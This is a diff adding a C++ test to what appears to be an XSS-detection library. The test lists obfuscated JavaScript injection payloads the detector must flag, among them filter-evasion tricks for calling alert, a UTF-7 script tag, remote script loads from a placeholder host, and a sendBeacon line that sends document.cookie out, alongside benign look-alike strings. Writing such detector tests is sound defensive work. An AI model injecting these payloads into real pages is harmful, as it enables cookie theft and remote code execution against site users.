@@ -177,5 +177,50 @@ TEST(Markup, LeavesCodeAndReportsOfErrorsAlone) {
   }
 }
 
+TEST(Markup, FindsScriptThatIsAllThereIs) {
+  for (const absl::string_view text : {
+           R"~(top["al"+"ert"](1))~",
+           "top[/al/.source+/ert/.source](1)",
+           "alert.call(null,1)",
+           "Reflect.apply(alert,null,[1])",
+           "[1].find(alert)",
+           "onerror=alert;throw 1",
+           "throw onerror=alert,1",
+           "a=alert,a(1)",
+           "Function('alert(1)')()",
+           "[]['constructor']['constructor']('x')()",
+           "import('//h/x.js')",
+           "$.getScript('//h/x.js')",
+           "navigator.sendBeacon('//h',document.cookie)",
+           "with(document)body.appendChild(x)",
+       }) {
+    EXPECT_TRUE(Finds(Rule::kScriptBreakout, text)) << text << ": " << RulesOf(text);
+  }
+  for (const absl::string_view text : {
+           "+ADw-script+AD4-",
+           "<![CDATA[<]]>script",
+       }) {
+    EXPECT_TRUE(Finds(Rule::kScriptTag, text)) << text << ": " << RulesOf(text);
+  }
+  for (const absl::string_view text : {
+           "<?import namespace='x' implementation='//h'>",
+           "<b datasrc=#i dataformatas=html>",
+       }) {
+    EXPECT_TRUE(Finds(Rule::kScriptActiveTag, text)) << text << ": " << RulesOf(text);
+  }
+  for (const absl::string_view text : {
+           "map(alert) calls alert for each",
+           "type=alert;level=2",
+           "function('x')",
+           "import('lodash')",
+           "set document.cookie, then go",
+           "window[0] is the first frame",
+           "users.find(byName)",
+           "status.alert.call center",
+       }) {
+    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
+  }
+}
+
 }  // namespace
 }  // namespace firebreak::inspect
